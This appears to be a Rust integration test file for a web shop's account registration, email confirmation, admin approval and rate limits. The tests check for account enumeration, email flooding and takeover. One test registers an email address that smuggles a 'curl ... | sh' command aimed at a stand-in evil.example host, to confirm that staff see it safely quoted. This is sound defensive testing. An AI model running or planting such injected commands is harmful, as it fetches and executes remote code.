//! POST /api/register/{language}, POST /api/approve-account, POST /api/send-confirmation-email/{language}

use super::{ME, PASSWORD, account, cookies, log_in, registering, token_in, told, waiting_mails};
use crate::{
    catalogue::Catalogue,
    databases::{both, on_sqlite},
    documents::{form, pdf},
    support::{Answer, Shop, wait_until},
};
use serde_json::{Value, json};
use vitrina_core::owner::CustomerId;
use vitrina_store::customers::consents;
use vitrina_testkit::{MailServer, ReceivedMail};

/// What who reads the mailbox chooses.
pub(super) const OWN: &str = "a staple of my own";

/// What a company enters.
pub(super) fn company(email: &str) -> Value {
    json!({"b2bCustomer": true, "companyName": "Kopa, UAB", "companyEmail": "office@kopa.example", "companyPhone": "+370 600 00002",
        "companyCode": "300000001", "companyVatCode": "LT100000000012", "companyCountry": "LT", "companyCity": "Klaipėda",
        "companyAddress": "Tiltų g. 1", "companyPostcode": "LT-91246", "companyWebSite": "https://kopa.example", "name": "Ona",
        "surname": "Kazlauskienė", "email": email, "phone": "+370 600 00001", "password": PASSWORD, "password2": PASSWORD,
        "agreeToPrivacyAndTerms": true, "news_letter_mail": true, "news_letter_sms": true, "gdprAccepted": true})
}

/// What somebody enters who buys for themselves.
pub(super) fn consumer(email: &str) -> Value {
    json!({"buyAs": "b2c", "name": "Jonas", "surname": "Jonaitis", "email": email, "phone": "+37060000003", "password": PASSWORD,
        "password2": PASSWORD, "agreeToPrivacyAndTerms": true, "gdprAccepted": true})
}

pub(super) fn register(shop: &Shop, entered: &Value) -> Answer {
    shop.post("/api/register/lt?create_temporar_session=true", &entered.to_string(), &[("x-visitor-token", ME)])
}

pub(super) fn approve(shop: &Shop, token: &str) -> Answer {
    shop.post("/api/approve-account", &json!({"token": token}).to_string(), &[])
}

pub(super) fn outcome(answer: &Answer) -> String {
    assert_eq!(answer.status, 201, "{}", answer.text);
    answer.json()["outcome"].as_str().unwrap().to_owned()
}

fn message(answer: &Answer) -> String {
    answer.json()["message"].as_str().unwrap_or_default().to_owned()
}

/// The same with another password.
pub(super) fn with_password(mut entered: Value, password: &str) -> Value {
    (entered["password"], entered["password2"]) = (json!(password), json!(password));
    entered
}

/// What a mail says, in one line, and as it came.
fn words(mail: &ReceivedMail) -> (String, String) {
    let text = told(mail);
    (text.split_whitespace().collect::<Vec<_>>().join(" "), text)
}

pub(super) fn set_password(shop: &Shop, id: &str) -> u16 {
    shop.post("/api/set_password", &json!({"id": id, "password": OWN}).to_string(), &[]).status
}

/// Who gets the newsletter, and what who has signed in has said of it.
async fn news(shop: &Shop, entered: &Answer) -> (String, Vec<bool>) {
    let exported = shop.command(&["newsletter", "export"]);
    let id = CustomerId(entered.json()["id"].as_str().unwrap().to_owned());
    let database = shop.database().await;
    let said = consents::of_customer(&database, &id).await.unwrap().into_iter().map(|consent| consent.is_given).collect();
    database.close().await.unwrap();
    (String::from_utf8(exported.stdout).unwrap(), said)
}

#[tokio::test]
async fn auth_03_auth_04_auth_07_a_company_registers_confirms_its_mailbox_once_and_signs_in() {
    both(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        let registered = register(&shop, &company("Ona@Kopa.example"));
        assert_eq!((outcome(&registered), cookies(&registered)), ("EmailNotValidated".to_owned(), String::new()), "no session, whatever is asked");
        let early = log_in(&shop, "ona@kopa.example", PASSWORD, &[]);
        assert_eq!((early.status, message(&early)), (401, "EmailNotValidated".to_owned()));
        assert_eq!(message(&log_in(&shop, "ona@kopa.example", "wrong", &[])), "", "only who knows the password hears of it");

        let mail = server.next();
        assert_eq!((mail.header("Content-Language").as_str(), &*mail.recipients), ("lt", &["Ona@Kopa.example".to_owned()][..]));
        let text = told(&mail);
        assert!(text.contains("Patvirtinkite savo el. pašto adresą") && !text.contains("Kazlauskienė") && !text.contains("Kopa, UAB"), "{text}");
        assert!(text.contains("https://shop.example/lt/paskyra?step=email-approve&email-approval-token="), "{text}");
        let token = token_in(&text, "email-approval-token");

        for wrong in ["", "x", &"0".repeat(64), &token.to_uppercase(), &token[1..]] {
            assert_eq!((approve(&shop, wrong).status, message(&approve(&shop, wrong))), (400, "TokenNotValid".to_owned()), "{wrong}");
        }
        let other = shop.post("/api/set_password", &json!({"password": "another long phrase", "id": token}).to_string(), &[]);
        assert_eq!((other.status, message(&other)), (400, "TokenNotValid".to_owned()), "not for another purpose");
        assert_eq!(approve(&shop, &token).status, 204);
        assert_eq!(approve(&shop, &token).status, 400, "not twice");

        let entered = log_in(&shop, "ona@kopa.example", PASSWORD, &[]);
        let expected = json!({"buyAs": "company", "b2bCustomer": true, "companyName": "Kopa, UAB", "companyEmail": "office@kopa.example",
            "companyPhone": "+37060000002", "companyCode": "300000001", "companyVatCode": "LT100000000012", "companyCountry": "LT",
            "companyCity": "Klaipėda", "companyAddress": "Tiltų g. 1", "companyPostcode": "LT-91246", "companyWebSite": "https://kopa.example",
            "name": "Ona", "surname": "Kazlauskienė", "email": "Ona@Kopa.example", "phone": "+37060000001", "language": "lt",
            "news_letter_mail": true, "news_letter_sms": true, "creditLimit": null});
        for (field, value) in expected.as_object().unwrap() {
            assert_eq!(&entered.json()[field], value, "{field}");
        }
        assert_eq!(server.rest(), Vec::new());
    })
    .await;
}

#[tokio::test]
async fn auth_11_an_address_that_has_an_account_is_answered_like_any_other_and_its_owner_hears_of_it() {
    both(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        let first = register(&shop, &company("ona@kopa.example"));
        let token = token_in(&told(&server.next()), "email-approval-token");
        assert_eq!(approve(&shop, &token).status, 204);
        let again = register(
            &shop,
            &json!({"buyAs": "b2c", "password": "not her password", "password2": "not her password", "name": "Eve",
            "surname": "Evil http://evil.example", "email": " ONA@kopa.example", "phone": "+37060000009", "agreeToPrivacyAndTerms": true}),
        );
        assert_eq!((again.status, &again.text, cookies(&again)), (first.status, &first.text, cookies(&first)));
        let text = told(&server.next());
        assert!(text.contains("Jūs jau turite paskyrą") && !text.contains("Evil") && !text.contains("token"), "{text}");
        assert_eq!(log_in(&shop, "ona@kopa.example", PASSWORD, &[]).status, 200, "nothing has changed");

        for email in ["nobody@example.com", "ona@kopa.example"] {
            for call in ["/api/send-confirmation-email/lt", "/api/reset"] {
                let body = if call == "/api/reset" { json!({"lang": "lt", "email": email}) } else { json!({"email": email}) };
                let answer = shop.post(call, &body.to_string(), &[]);
                assert_eq!((answer.status, answer.text.as_str()), (204, ""), "{call} {email}");
            }
        }
        let text = told(&server.next());
        assert!(text.contains("Susikurkite naują slaptažodį"), "only a reset of the account that there is: {text}");
        wait_until(|| waiting_mails(&shop) == 0);
        assert_eq!(server.rest(), Vec::new());
    })
    .await;
}

#[tokio::test]
async fn auth_04_the_confirmation_is_sent_again_to_who_waits_for_it_but_not_without_end() {
    on_sqlite(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        outcome(&register(&shop, &consumer("jonas@example.com")));
        let first = token_in(&told(&server.next()), "email-approval-token");
        let resend = || shop.post("/api/send-confirmation-email/en", &json!({"email": "Jonas@example.com"}).to_string(), &[]).status;
        let mut tokens = vec![first];
        for _ in 0..4 {
            assert_eq!(resend(), 204);
            let mail = server.next();
            assert_eq!(mail.header("Content-Language"), "en");
            tokens.push(token_in(&told(&mail), "email-approval-token"));
        }
        assert_eq!(resend(), 204, "the fifth in an hour is the last; nothing tells");
        wait_until(|| waiting_mails(&shop) == 0);
        assert_eq!(server.rest(), Vec::new());
        tokens.sort_unstable();
        tokens.dedup();
        assert_eq!(tokens.len(), 5, "each mail has its own");
        assert_eq!(approve(&shop, &tokens[0]).status, 204);
        assert_eq!(log_in(&shop, "jonas@example.com", PASSWORD, &[]).status, 200);
    })
    .await;
}

#[tokio::test]
async fn auth_04_staff_let_customers_in_where_the_shop_wants_it_so() {
    both(async |url| {
        let server = MailServer::start();
        let catalogue = Catalogue::small().feature("customerRegistrationApprovedByAdmin", true).feature("customerEmailConfirmation", false);
        let shop = registering(url, &server, &catalogue);
        // Where nobody proves their mailbox, news are asked about by a mail of their own: see newsletter.rs.
        let mut quiet = company("ona@kopa.example");
        (quiet["news_letter_mail"], quiet["news_letter_sms"]) = (json!(false), json!(false));
        let registered = register(&shop, &quiet);
        assert_eq!((outcome(&registered), cookies(&registered)), ("NotApprovedByAdmin".to_owned(), String::new()));
        let mail = server.next();
        let text = told(&mail);
        assert_eq!(&*mail.recipients, &["info@shop.example".to_owned()][..], "staff hear of it");
        for words in ["Kopa, UAB", "Ona Kazlauskienė", "vitrina customers approve -- 'ona@kopa.example'"] {
            assert!(text.contains(words), "{words}: {text}");
        }
        let early = log_in(&shop, "ona@kopa.example", PASSWORD, &[]);
        assert_eq!((early.status, message(&early)), (401, "NotApprovedByAdmin".to_owned()));
        let listed = shop.command(&["customers", "list", "--waiting"]);
        let listed = String::from_utf8_lossy(&listed.stdout).into_owned();
        assert!(listed.contains("ona@kopa.example") && listed.contains("waiting") && listed.contains("Kopa, UAB"), "{listed}");

        let approved = shop.command(&["customers", "approve", "ONA@kopa.example"]);
        assert!(approved.status.success(), "{}", String::from_utf8_lossy(&approved.stderr));
        let text = told(&server.next());
        assert!(text.contains("Jūsų paskyra paruošta") && text.contains("https://shop.example/lt/paskyra"), "{text}");
        assert!(shop.command(&["customers", "approve", "ona@kopa.example"]).status.success(), "twice changes nothing");
        let entered = log_in(&shop, "ona@kopa.example", PASSWORD, &[]);
        assert_eq!(entered.status, 200);

        assert!(shop.command(&["customers", "disable", "ona@kopa.example"]).status.success());
        assert_eq!(account(&shop, &cookies(&entered)).status, 401, "signed out at once");
        let shut = log_in(&shop, "ona@kopa.example", PASSWORD, &[]);
        assert_eq!((shut.status, message(&shut)), (401, "AccountDisabled".to_owned()));
        assert!(shop.command(&["customers", "enable", "ona@kopa.example"]).status.success());
        assert_eq!(log_in(&shop, "ona@kopa.example", PASSWORD, &[]).status, 200);
        let unknown = shop.command(&["customers", "approve", "nobody@example.com"]);
        assert!(!unknown.status.success() && String::from_utf8_lossy(&unknown.stderr).contains("nobody has an account"));
        assert_eq!(server.rest(), Vec::new());
    })
    .await;
}

#[tokio::test]
async fn auth_04_where_nothing_else_is_asked_who_registers_is_signed_in_and_has_what_they_had() {
    both(async |url| {
        let shop = Catalogue::small().feature("customerEmailConfirmation", false).serve(url);
        let file = shop.post_form("/api/document", &form("a.pdf", &pdf(100)), &[("x-visitor-token", ME)]).json()["_id"].clone();
        let registered = register(&shop, &consumer("jonas@example.com"));
        assert_eq!(outcome(&registered), "LoggedIn");
        let signed = cookies(&registered);
        assert_eq!(account(&shop, &signed).json()["buyAs"], "b2c");
        let address = format!("/api/document/{}", file.as_str().unwrap());
        assert_eq!(shop.get_with(&address, &[("cookie", &signed)]).status, 200, "the visitor's file is the customer's");
        assert_eq!(shop.get_with(&address, &[("x-visitor-token", ME)]).status, 404);

        let taken = register(&shop, &consumer("JONAS@example.com"));
        assert_eq!((taken.status, message(&taken), cookies(&taken)), (409, "EmailTaken".to_owned(), String::new()));
        let plain = shop.post("/api/register/en", &consumer("ona@example.com").to_string(), &[]);
        assert_eq!((outcome(&plain), cookies(&plain)), ("Registered".to_owned(), String::new()));
        assert_eq!(log_in(&shop, "ona@example.com", PASSWORD, &[]).status, 200);
    })
    .await;
}

#[tokio::test]
async fn auth_03_what_is_wrong_is_named_and_nothing_is_stored() {
    on_sqlite(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        let with = |changes: Value| {
            let mut entered = company("ona@kopa.example");
            entered.as_object_mut().unwrap().extend(changes.as_object().unwrap().clone());
            let answer = register(&shop, &entered);
            (answer.status, answer.fields())
        };
        let wrong = |fields: &[&str]| (422, fields.iter().map(|field| (*field).to_owned()).collect::<Vec<_>>());
        assert_eq!(
            with(json!({"companyName": " ", "surname": "", "agreeToPrivacyAndTerms": false})),
            wrong(&["companyName", "surname", "agreeToPrivacyAndTerms"])
        );
        assert_eq!(with(json!({"email": "ona@kopa", "name": "Ona\u{202e}"})), wrong(&["name", "email"]));
        assert_eq!(with(json!({"password": "short", "password2": "short"})), wrong(&["password"]));
        assert_eq!(with(json!({"password2": "something else"})), wrong(&["password2"]));
        assert_eq!(with(json!({"companyCountry": "XX"})), wrong(&["companyCountry"]));
        assert_eq!(with(json!({"buyAs": "thief"})), wrong(&["buyAs"]));
        for guessable in ["password1", "kazlauskiene", "ona@kopa.example"] {
            let answer = register(&shop, &{
                let mut entered = company("ona@kopa.example");
                entered["password"] = json!(guessable);
                entered["password2"] = json!(guessable);
                entered
            });
            assert_eq!((answer.status, answer.json()["errors"][0]["code"].as_str()), (422, Some("common")), "{guessable}");
            assert!(!answer.text.contains(guessable), "{}", answer.text);
        }
        assert_eq!(with(json!({"creditLimit": 10000})).0, 400, "nobody gives themselves credit");
        assert_eq!(with(json!({"approvedAt": "2026-11-23T00:00:00Z"})).0, 400);
        assert_eq!(shop.post("/api/register/xx", &company("ona@kopa.example").to_string(), &[]).status, 404);
        let listed = shop.command(&["customers", "list"]);
        assert!(!String::from_utf8_lossy(&listed.stdout).contains("kopa.example"));
        assert_eq!(server.rest(), Vec::new());

        let cross = shop.post("/api/register/lt", &company("ona@kopa.example").to_string(), &[("sec-fetch-site", "cross-site")]);
        assert_eq!((cross.status, message(&cross)), (403, "CrossSite".to_owned()));
    })
    .await;
}

#[tokio::test]
async fn auth_11_staff_are_never_shown_an_address_as_a_command_to_run() {
    on_sqlite(async |url| {
        let server = MailServer::start();
        let catalogue = Catalogue::small().feature("customerRegistrationApprovedByAdmin", true).feature("customerEmailConfirmation", false);
        let shop = registering(url, &server, &catalogue);
        let hostile = "a|curl${IFS}x.example/'b'|sh@evil.example";
        assert_eq!(outcome(&register(&shop, &consumer(hostile))), "NotApprovedByAdmin");
        // Lines are broken between words.
        let text = told(&server.next()).split_whitespace().collect::<Vec<_>>().join(" ");
        let quoted = r"vitrina customers approve -- 'a|curl${IFS}x.example/'\''b'\''|sh@evil.example'";
        assert!(text.contains(quoted), "{text}");
    })
    .await;
}

#[tokio::test]
async fn auth_11_who_registers_with_anothers_address_again_and_again_does_not_fill_their_mailbox() {
    on_sqlite(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        outcome(&register(&shop, &consumer("ona@example.com")));
        for number in 0..7 {
            outcome(&register(&shop, &with_password(consumer("ona@example.com"), &format!("{number} green umbrellas grow"))));
        }
        let text = told(&server.next());
        assert!(text.contains("email-approval-token"), "the first one is theirs: {text}");
        wait_until(|| waiting_mails(&shop) == 0);
        let rest = server.rest();
        assert_eq!(rest.len(), 5, "and of the others five are told");
        assert!(rest.iter().all(|mail| told(mail).contains("Susikurkite paskyros slaptažodį")), "who reads the mailbox takes it over");
    })
    .await;
}

#[tokio::test]
async fn auth_03_auth_07_what_a_stranger_began_with_an_address_opens_to_nobody_once_its_owner_registers_too() {
    both(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        outcome(&register(&shop, &with_password(company("ona@example.com"), "correct horse of another")));
        let first = token_in(&told(&server.next()), "email-approval-token");
        outcome(&register(&shop, &consumer("ona@example.com")));
        let (text, choosing) = words(&server.next());
        assert!(text.contains("registravosi ne vieną kartą") && text.contains("nebegalioja") && !text.contains("lieka"), "{text}");
        assert_eq!(token_in(&choosing, "id").len(), 64);
        assert_eq!(approve(&shop, &first).status, 400, "whose password it was is not known");
        assert_eq!(shop.post("/api/send-confirmation-email/en", &json!({"email": "ona@example.com"}).to_string(), &[]).status, 204);
        let (text, choosing) = words(&server.next());
        assert!(text.contains("earlier links and passwords no longer work"), "{text}");
        let again = token_in(&choosing, "id");
        for password in ["correct horse of another", PASSWORD] {
            assert_eq!(log_in(&shop, "ona@example.com", password, &[]).status, 401, "{password}");
        }
        assert_eq!(set_password(&shop, &again), 204);
        assert_eq!(log_in(&shop, "ona@example.com", "correct horse of another", &[]).status, 401);
        let entered = log_in(&shop, "ona@example.com", OWN, &[]);
        let expected = json!({"name": "Jonas", "surname": "Jonaitis", "phone": "+37060000003", "buyAs": "b2c", "companyName": null,
            "companyVatCode": null, "news_letter_mail": false, "news_letter_sms": false});
        for (field, value) in expected.as_object().unwrap() {
            assert_eq!(&entered.json()[field], value, "{field}: what the stranger wrote is gone");
        }
        assert_eq!(news(&shop, &entered).await, (String::new(), Vec::new()));
    })
    .await;
}

#[tokio::test]
async fn auth_05_nltr_01_who_takes_an_account_over_by_a_new_password_gets_no_news_that_a_stranger_wanted() {
    both(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        outcome(&register(&shop, &company("ona@example.com")));
        assert!(told(&server.next()).contains("email-approval-token"));
        assert_eq!(shop.post("/api/reset", &json!({"lang": "en", "email": "ona@example.com"}).to_string(), &[]).status, 204);
        assert_eq!(set_password(&shop, &token_in(&told(&server.next()), "id")), 204);
        let entered = log_in(&shop, "ona@example.com", OWN, &[]);
        assert_eq!((&entered.json()["news_letter_mail"], &entered.json()["news_letter_sms"]), (&json!(false), &json!(false)));
        assert_eq!(news(&shop, &entered).await, (String::new(), Vec::new()));
    })
    .await;
}

#[tokio::test]
async fn auth_03_auth_04_a_registration_that_is_sent_again_keeps_its_password_and_its_first_link() {
    both(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        let first = register(&shop, &consumer("ona@example.com"));
        let link = token_in(&told(&server.next()), "email-approval-token");
        let mut corrected = consumer("Ona@example.com");
        (corrected["surname"], corrected["news_letter_mail"]) = (json!("Jonaitienė"), json!(true));
        let again = register(&shop, &corrected);
        assert_eq!((again.status, &again.text), (first.status, &first.text));
        let other = token_in(&told(&server.next()), "email-approval-token");
        assert_ne!(link, other, "the mail that confirms comes again");
        assert_eq!(approve(&shop, &link).status, 204);
        let entered = log_in(&shop, "ona@example.com", PASSWORD, &[]);
        assert_eq!((entered.status, &entered.json()["surname"]), (200, &json!("Jonaitienė")), "{}", entered.text);
        let (exported, said) = news(&shop, &entered).await;
        assert!(exported.contains("ona@example.com") && said == [true], "who began it says what they want: {exported} {said:?}");
    })
    .await;
}

#[tokio::test]
async fn auth_01_without_a_mail_server_nobody_is_asked_to_prove_a_mailbox_that_cannot_be_written_to() {
    on_sqlite(async |url| {
        let shop = Catalogue::small().serve(url);
        assert_eq!(shop.get("/api/configuration").json()["features"]["customerRegistration"], json!(false));
        assert_eq!(register(&shop, &company("ona@kopa.example")).status, 404);
        let asked = shop.post("/api/reset", &json!({"lang": "en", "email": "ona@kopa.example"}).to_string(), &[]);
        assert_eq!((asked.status, waiting_mails(&shop)), (204, 0), "no work that nobody could do");
    })
    .await;
}

#[tokio::test]
async fn auth_11_one_client_registers_and_asks_for_mails_a_few_times_a_minute() {
    on_sqlite(async |url| {
        let server = MailServer::start();
        let shop = registering(url, &server, &Catalogue::small());
        let mut statuses: Vec<u16> = (0..8).map(|number| register(&shop, &consumer(&format!("c{number}@example.com"))).status).collect();
        statuses.extend((0..4).map(|_| shop.post("/api/reset", r#"{"lang": "en", "email": "c1@example.com"}"#, &[]).status));
        assert_eq!(statuses, [[201; 8].as_slice(), &[204, 204, 429, 429]].concat());
    })
    .await;
}
